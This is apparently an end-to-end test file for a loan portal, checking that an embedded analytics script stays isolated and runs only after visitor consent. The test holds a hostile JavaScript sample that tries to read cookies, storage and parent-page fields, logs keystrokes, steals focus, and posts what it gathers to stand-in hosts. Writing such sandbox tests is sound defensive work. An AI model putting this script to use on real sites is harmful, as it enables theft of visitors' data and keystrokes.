import { expect, it } from 'vitest'

import { visitsTexts } from '../../domain/texts/visits.ts'
import { administratorsBrowser } from '../harness/administrator.ts'
import { control } from '../harness/control.ts'
import { portalHere } from '../harness/portal-here.ts'
import { openVisitor } from '../harness/visitor.ts'

const browser = administratorsBrowser()

/** Tries whatever a page could give away or let happen, and sends what it gets to its own origin. */
const hostile = `
const got = []
const note = (name, value) => got.push([name, String(value)])
const tries = {
  cookie: () => document.cookie,
  storage: () => { localStorage.setItem('a', 'b'); return localStorage.length },
  session: () => sessionStorage.length,
  database: () => indexedDB.open('a').transaction,
  parent: () => parent.document.body.innerHTML,
  top: () => top.document.querySelector('input').value,
  address: () => top.location.href,
  history: () => parent.history.length,
  globals: () => parent.localStorage.getItem('token'),
  popup: () => open('https://stats.example/popup').location,
  navigation: () => { top.location = 'https://stats.example/away'; return 'left' },
}
for (const [name, attempt] of Object.entries(tries)) try { note(name, attempt()) } catch { note(name, 'refused') }
note('referrer', document.referrer)
const field = document.createElement('input')
document.documentElement.append(field)
setTimeout(() => setInterval(() => { focus(); field.focus() }, 5), 3000)
addEventListener('keydown', ({ key }) => note('key', key), true)
addEventListener('message', ({ data }) => note('step', typeof data === 'string' ? data : JSON.stringify(data)))
parent.postMessage({ type: 'welcome' }, '*')
fetch('https://elsewhere.example/leak').then(() => note('leak', 'sent'), () => note('leak', 'refused'))
new Image().src = 'https://elsewhere.example/pixel'
navigator.geolocation.getCurrentPosition(() => note('place', 'given'), () => note('place', 'refused'))
setInterval(() => fetch('https://stats.example/got', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) }), 100)
`

it('[A2.28] [B2.29] a hostile analytics script learns the names of steps alone, and runs only while it is switched on', async () => {
  const applicant = await openVisitor(browser, portalHere().url, 'en', 390)
  const { page, t } = applicant
  const asked: string[] = []
  let got: (readonly [string, string])[] = []
  for (const origin of ['https://stats.example', 'https://elsewhere.example'])
    await page.route(`${origin}/**`, (route) => {
      const url = route.request().url()
      asked.push(url)
      if (url.endsWith('/got')) got = JSON.parse(route.request().postData() ?? '[]') as typeof got
      return route.fulfill({ contentType: 'text/javascript', body: url.endsWith('/hostile.js') ? hostile : '' })
    })
  await page.goto('/')
  await page.getByRole('heading', { level: 1 }).waitFor()
  expect(asked).toEqual([])

  await control('technical', { ANALYTICS: { on: true, scriptAddress: 'https://stats.example/hostile.js' } })
  for (const path of ['/account/reset/finish/a-key-of-theirs', '/login', '/admin']) {
    await page.goto(path)
    await page.getByRole('heading').first().waitFor()
    expect(asked).toEqual([])
  }
  await page.goto('/privatkredit?secret=in-the-address')
  // Nothing is loaded before the visitor has agreed.
  const allow = page.getByRole('button', { name: visitsTexts.allow.en })
  await allow.waitFor()
  expect([await page.locator('iframe').count(), asked]).toEqual([0, []])
  await allow.click()
  await expect.poll(() => got.filter(([name]) => name === 'step')).toEqual([['step', 'start']])
  const field = page.locator('input:visible').first()
  await field.focus()
  await expect.poll(() => got.some(([name]) => name === 'leak')).toBe(true)
  // It tries to take the focus, and ends by that.
  await expect.poll(() => page.locator('iframe').count()).toBe(0)
  expect(await field.evaluate((input) => input === document.activeElement)).toBe(true)
  await page.keyboard.type('12345')
  const known = got.filter(
    ([name, value]) => value !== 'refused' && name !== 'step' && !(name === 'referrer' && value === ''),
  )
  expect(known).toEqual([])
  expect(asked.filter((url) => !/stats[.]example[/](got|hostile[.]js)$/.test(url))).toEqual([])
  expect(new URL(page.url()).pathname).toBe('/privatkredit')

  await page.goto('/login')
  await page.getByRole('heading', { name: t('signIn.title') }).waitFor()
  expect(await page.locator('iframe').count()).toBe(0)
  await applicant.close()
})
